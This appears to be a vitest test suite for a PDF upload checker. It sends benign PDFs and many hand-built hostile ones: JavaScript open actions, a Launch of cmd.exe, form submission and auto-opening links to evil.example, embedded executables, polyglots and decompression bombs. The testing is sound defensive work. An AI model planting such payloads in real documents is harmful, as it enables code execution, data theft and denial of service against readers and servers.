import { buffer } from 'node:stream/consumers';
import { deflateSync } from 'node:zlib';
import PDFDocument from 'pdfkit';
import { describe, expect, test } from 'vitest';
import { filesServer, problemOf } from '../support/test-files.server.ts';

const { files, booth, rowsOf, fastify } = await filesServer();

const active =
  'This PDF contains scripts, forms, actions or attached files. Print it to a new PDF and send that.';
const encrypted = 'This PDF is encrypted. Save a copy without a password and send that.';
const unreadable = 'We can’t check this PDF. Print it to a new PDF and send that.';
const mixed = 'This PDF contains another kind of file. Print it to a new PDF and send that.';

/** A PDF by hand: its catalog (object 1), and further objects. */
const byHand = (catalog: string, objects = '', trailer = ''): Buffer =>
  Buffer.from(
    `%PDF-1.7\n1 0 obj<</Type/Catalog${catalog}>>endobj\n${objects}\n` +
      `trailer<</Root 1 0 R${trailer}>>\nstartxref\n0\n%%EOF\n`,
    'latin1',
  );
const stream = (number: number, dict: string, content: string): string =>
  `${number} 0 obj<<${dict}/Length ${content.length}>>stream\n${content}\nendstream endobj\n`;
const folded = (content: string | Uint8Array): string => deflateSync(content).toString('latin1');
/** A stream that holds one object, number 5. */
const packed = (object: string): string =>
  stream(4, '/Type/ObjStm/N 1/First 4/Filter/FlateDecode', folded(`5 0 ${object}`));

/** The same of any content, as few bytes. */
const packedContent = (content: string | Uint8Array, count = 1, first = 4): string =>
  stream(4, `/Type/ObjStm/N ${count}/First ${first}/Filter/FlateDecode`, folded(content));

/** What is made by the library that many sites make PDFs with. */
function made(
  write: (document: PDFKit.PDFDocument) => void,
  options: PDFKit.PDFDocumentOptions = {},
): Promise<Buffer> {
  const document = new PDFDocument(options);
  write(document);
  document.end();
  return buffer(document);
}

async function send(pdf: Uint8Array) {
  const { rep, documents, id } = await booth();
  const put = await files.put(rep, documents, pdf, 'Viewbook.pdf');
  return { put, rows: await rowsOf(id) };
}

describe('A rep sends an ordinary PDF, and it is taken', async () => {
  const page = '/Pages 2 0 R';
  test.each<[string, Uint8Array]>([
    [
      'with text, links and bookmarks',
      await made(
        (document) => {
          document.text('Visit us', { link: 'https://college.example/visit' });
          document.addPage().text('Aid', { link: 'mailto:aid@college.example' });
          document.outline.addItem('Aid');
        },
        { tagged: true, lang: 'en', displayTitle: true },
      ),
    ],
    ['of many pages, not compressed', await made(many, { compress: false, pdfVersion: '1.7' })],
    ['that opens at a page', byHand('/OpenAction[2 0 R/Fit]')],
    ['that opens by an action that goes there', byHand('/OpenAction<</S/GoTo/D[2 0 R/Fit]>>')],
    ['with its objects packed', byHand('/Outlines 5 0 R', packed('<</Type/Outlines/Count 0>>'))],
    ['that was changed twice', Buffer.concat([byHand(page), byHand(page).subarray(9)])],
    ['with comments between its objects', byHand(page, '%1 \n'.repeat(40_000))],
    [
      'that opens by actions that lead on to places',
      byHand(
        '/OpenAction 3 0 R',
        '3 0 obj<</S/GoTo/D[2 0 R/Fit]/Next[4 0 R 4 0 R]>>endobj\n4 0 obj<</S/GoTo/D[2 0 R/Fit]>>endobj',
      ),
    ],
    ['with white space behind its end', Buffer.concat([byHand(page), Buffer.from('\r\n \0\n')])],
  ])('%s', async (_, pdf) => {
    const { put } = await send(pdf);
    expect(problemOf(put)).toEqual([201, undefined]);
  });
});

function many(document: PDFKit.PDFDocument): void {
  for (let n = 0; n < 40; n += 1) document.addPage().text(`Page ${n}: ${'apply soon '.repeat(20)}`);
}

const runs = '<</S/JavaScript/JS(app.alert(1))>>';
const hidden = stream(3, '', '5 0 obj<</S/JavaScript/JS(x)>>endobj');

describe('A rep sends a PDF that could harm a family, and is told what to do', async () => {
  test.each<[string, string, Uint8Array]>([
    ['runs a script when opened', active, byHand(`/OpenAction ${runs}`)],
    ['spells the script by number', active, byHand('/OpenAction<</S/J#61vaScript/#4aS(x)>>')],
    ['names scripts', active, byHand('/Names<</JavaScript<</Names[(a) 3 0 R]>>>>')],
    ['packs the script', active, byHand('/OpenAction 5 0 R', packed(runs))],
    ['packs it without saying so', active, byHand('', packed(runs).replace('/Type/ObjStm', ''))],
    [
      'keeps the script in an older version',
      active,
      byHand('', `5 0 obj${runs}endobj\n5 0 obj<<>>endobj`),
    ],
    ['starts a program', active, byHand('', '3 0 obj<</S/Launch/F(cmd.exe)>>endobj')],
    ['sends a form', active, byHand('', '3 0 obj<</S/SubmitForm/F(https://evil.example)>>endobj')],
    ['reads data in', active, byHand('', '3 0 obj<</S/ImportData/F(a.fdf)>>endobj')],
    ['leads to another file', active, byHand('', '3 0 obj<</S/GoToR/F(a.pdf)>>endobj')],
    ['leads into an attached file', active, byHand('', '3 0 obj<</S/GoToE>>endobj')],
    ['plays rich media', active, byHand('', '3 0 obj<</Subtype/RichMedia>>endobj')],
    ['lists attached files', active, byHand('/Names<</EmbeddedFiles<<>>>>')],
    ['holds an attached file', active, byHand('', stream(3, '/Type/EmbeddedFile', 'MZ'))],
    [
      'was given an attached file by a library',
      active,
      await made((document) => {
        document.file(Buffer.from('MZ'), { name: 'setup.exe' });
      }),
    ],
    [
      'was given a script by a library',
      active,
      await made((document) => {
        document.initForm();
        document.formText('name', 9, 9, 99, 20, { format: { type: 'number' } });
      }),
    ],
    ['is a form of its own language', active, byHand('/AcroForm<</XFA 3 0 R>>')],
    ['opens a site by itself', active, byHand('/OpenAction<</S/URI/URI(https://evil.example)>>')],
    [
      'opens one after going to a page',
      active,
      byHand(
        '/OpenAction<</S/GoTo/D[2 0 R/Fit]/Next 3 0 R>>',
        '3 0 obj<</S/URI/URI(https://evil.example)>>endobj',
      ),
    ],
    [
      'acts when a page is left',
      active,
      byHand('', '3 0 obj<</AA<</C<</S/Named/N/Print>>>>>>endobj'),
    ],
    ['links to a script', active, byHand('', '3 0 obj<</S/URI/URI(javascript:alert(1))>>endobj')],
    [
      'links to a file on the disk',
      active,
      byHand('', '3 0 obj<</S/URI/URI 4 0 R>>endobj 4 0 obj(file:///etc)endobj'),
    ],
    ['says it is encrypted', encrypted, byHand('', '', '/Encrypt 3 0 R')],
    ['opens with a password', encrypted, await made(many, { userPassword: 'secret' })],
    ['lets only the owner print', encrypted, await made(many, { ownerPassword: 'secret' })],
    ['has no catalog', unreadable, Buffer.from('%PDF-1.7\n1 0 obj<<>>endobj\n%%EOF')],
    ['has an object that breaks off', unreadable, byHand('', '3 0 obj<</A [1 2>>endobj')],
    ['nests without end', unreadable, byHand('', `3 0 obj${'['.repeat(150_000)}endobj`)],
    ['hides an object in a stream', unreadable, byHand('', hidden)],
    [
      'hides it behind comments',
      unreadable,
      byHand('', hidden.replace('5 0 obj', '5 %\n0%\nobj').replace(/\/Length \d+/, '/Length 40')),
    ],
    ['hides an object in a comment', unreadable, byHand('', '% 5 0 obj<</S/Hide>>endobj')],
    ['is followed by a page', mixed, Buffer.concat([byHand(''), Buffer.from('<html>')])],
    ['holds a page between objects', mixed, byHand('', '%<script>alert(1)</script>')],
    ['is followed by a ZIP', mixed, Buffer.concat([byHand(''), Buffer.from('PK\x03\x04')])],
    ['holds a ZIP between objects', mixed, byHand('', '%PK\x03\x04\n%PK\x05\x06')],
    ['ends as a ZIP inside a stream', mixed, byHand('', stream(3, '', 'PK\x03\x04aPK\x05\x06'))],
  ])('that %s', async (_, sentence, pdf) => {
    const { put, rows } = await send(pdf);
    expect(problemOf(put)).toEqual([400, sentence]);
    expect(rows).toEqual([]);
  });
});

/** The maximum size of a document slot. */
const whole = (piece: string): string => piece.repeat(Math.floor(180_000 / piece.length));
/** Larger than the limit when decompressed, small when compressed. */
const inBytes = 30_000_000;

describe('A rep sends a PDF that would keep the server busy, and is told what to do', () => {
  test.each<[string, Uint8Array]>([
    ['nests arrays without end', byHand('', `3 0 obj${whole('[')}endobj`)],
    ['nests dictionaries without end', byHand('', `3 0 obj${whole('<</A')}endobj`)],
    ['nests arrays in a stream', byHand('', packedContent(`5 0 ${'['.repeat(inBytes)}`))],
    ['unfolds to gigabytes', byHand('', packedContent(Buffer.alloc(180_000_000, 32)))],
    [
      'unfolds to as much in many streams',
      byHand('', packedContent(' '.repeat(inBytes)).repeat(3)),
    ],
    ['holds millions of numbers', byHand('', packedContent(`5 0 [${'1 '.repeat(inBytes / 2)}]`))],
    [
      'holds millions of dictionaries',
      byHand('', packedContent(`5 0 [${'<<>>'.repeat(inBytes / 4)}]`)),
    ],
    ['holds millions of names', byHand('', packedContent(`5 0 [${'/A'.repeat(inBytes / 2)}]`))],
    [
      'has the same numbers read for each of its objects',
      byHand('', packedContent(`${'5 0 '.repeat(9000)}[${'1 '.repeat(9000)}]`, 9000, 4 * 9000)),
    ],
    ['claims more objects than it has', byHand('', packedContent('5 0 null', 999_999_999))],
    ['claims a table of a billion objects', byHand('', '', '/Size 999999999')],
    [
      'claims one in a stream',
      byHand('', stream(3, '/Type/XRef/Root 1 0 R/Size 9/W[1 2 1]/Index[0 999999999]', '')),
    ],
    ['is read anew from each sign of a comment', byHand('', `x${whole('%')}`)],
    ['is read anew from each of its digits', byHand('', `x${whole('1')}`)],
    ['is read anew from each of its blanks', byHand('', `x${whole(' ')}y`)],
    ['is sought for objects in vain', byHand('', whole('1 0 '))],
    ['means thousands of things by one number', byHand('', whole('3 0 obj<</URI 3 0 R>>endobj\n'))],
  ])('that %s', async (_, pdf) => {
    const { put, rows } = await send(pdf);
    expect(problemOf(put)).toEqual([400, unreadable]);
    expect(rows).toEqual([]);
  });

  test('and others are served meanwhile and afterwards', async () => {
    const hostile = byHand('', packedContent(`5 0 (${'a'.repeat(inBytes)})`));
    const [refused, taken, page] = await Promise.all([
      send(hostile),
      send(byHand('/Pages 2 0 R')),
      fastify.inject('/healthz'),
    ]);
    expect(problemOf(refused.put)).toEqual([400, unreadable]);
    expect(taken.put.status).toBe(201);
    expect(page.statusCode).toBe(200);
    expect((await send(byHand('/Pages 2 0 R'))).put.status).toBe(201);
  });

  test('and actions that follow one another a thousand times are none of a brochure', async () => {
    const next = (n: number) =>
      `${n} 0 obj<</S/GoTo/D[2 0 R/Fit]/Next[${`${n + 1} 0 R `.repeat(9)}]>>endobj\n`;
    const chain = Array.from({ length: 1000 }, (_, n) => next(n + 3)).join('');
    const { put } = await send(byHand('/OpenAction 3 0 R', chain));
    expect(problemOf(put)).toEqual([400, active]);
  });
});

describe('A PDF of another kind', () => {
  test('that begins as something else is no PDF', async () => {
    const { put } = await send(Buffer.concat([Buffer.from('<html>'), byHand('')]));
    expect(put.status).toBe(415);
  });
});
